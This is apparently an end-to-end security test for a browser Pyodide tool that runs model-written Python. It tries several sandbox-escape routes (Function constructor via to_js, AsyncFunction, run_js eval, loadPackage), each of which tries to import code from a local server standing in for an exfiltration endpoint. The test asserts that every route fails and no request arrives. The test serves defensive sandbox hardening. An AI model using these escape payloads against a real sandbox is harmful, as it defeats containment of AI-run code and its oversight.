// The Python tool is on by default and runs model-written code, so it must not reach the network. Python
// sees no network globals, but Pyodide hands it JS functions, and compiling code from a string (a
// function's constructor, run_js's eval, a string timer) would run `import('http://…')` in the worker.
// Here code tries every such path against a server that records what reaches it: nothing may.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { devServerAndChromium } from '../support/dev-browser';
import { serveStatic, type StaticServer } from '../support/static-server';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const dev = devServerAndChromium();
let target: StaticServer;

beforeAll(async () => {
  // Another origin, as an exfiltration endpoint would be; it only has to log requests.
  target = await serveStatic({ '/': mkdtempSync(join(tmpdir(), 'agentflow-target-')) });
});

afterAll(async () => {
  await target?.close();
});

describe('python tool sandbox', () => {
  it('compiles no code from strings, so no path reaches the network; plain Python still runs', async () => {
    const page = await dev.browser.newPage();
    await page.goto(`${dev.base}/tests/e2e/pages/tools-python.html`);
    await page.waitForFunction(() => (window as unknown as { pageReady?: boolean }).pageReady === true);
    const T = target.url;
    // pyodide_js is gone from Python (#25.1), so the AsyncFunction and loadPackage attempts stop at its import;
    // the Function attempt reaches a JS function through to_js, which Python can always do.
    const code = [
      'from pyodide.ffi import to_js',
      'from pyodide.code import run_js',
      'res = []',
      'def attempt(name, f):',
      '    try:',
      '        f()',
      '        res.append(name + ": ran")',
      '    except Exception as e:',
      '        res.append(name + ": " + ("EvalError" if "EvalError" in str(e) else type(e).__name__))',
      `attempt("Function", lambda: to_js([]).constructor.constructor("return import('${T}/function.js')")())`,
      `attempt("AsyncFunction", lambda: __import__("pyodide_js").loadPackage.constructor("await import('${T}/async.js')")())`,
      `attempt("run_js", lambda: run_js("import('${T}/run_js.js')"))`,
      `attempt("loadPackage", lambda: __import__("pyodide_js").loadPackage("${T}/pkg-1.0-py3-none-any.whl"))`,
      'print("\\n".join(res))',
    ].join('\n');
    const r = await page.evaluate(async (c) => {
      const tool = new (window as any).agentflow.PythonTool();
      const ctx = { signal: new AbortController().signal, timeoutMs: 60_000 };
      const out = await tool.run({ code: c }, ctx);
      // loadPackage's promise settles after the run: give anything it started time to arrive.
      await new Promise((res) => setTimeout(res, 2000));
      const plain = await tool.run({ code: 'import statistics\nprint(statistics.mean([1, 2, 3, 4]))' }, ctx);
      tool.dispose();
      return { out, plain };
    }, code);
    expect(r.out.ok, JSON.stringify(r.out)).toBe(true);
    const lines = (r.out.output as string).split('\n');
    expect(lines[0]).toBe('Function: EvalError');
    expect(lines[1]).toMatch(/^AsyncFunction: (EvalError|ModuleNotFoundError)$/);
    // run_js evaluates through the `js` module's eval, and Python has no `js` module (#25.1).
    expect(lines[2]).toMatch(/^run_js: (ModuleNotFoundError|ImportError|EvalError)$/);
    // loadPackage only starts a promise; what matters is that no request left.
    expect(lines[3]).toMatch(/^loadPackage: /);
    expect(target.requests).toEqual([]);
    expect(r.plain).toEqual({ ok: true, output: '2.5' });
    await page.close();
  }, 180_000);
});
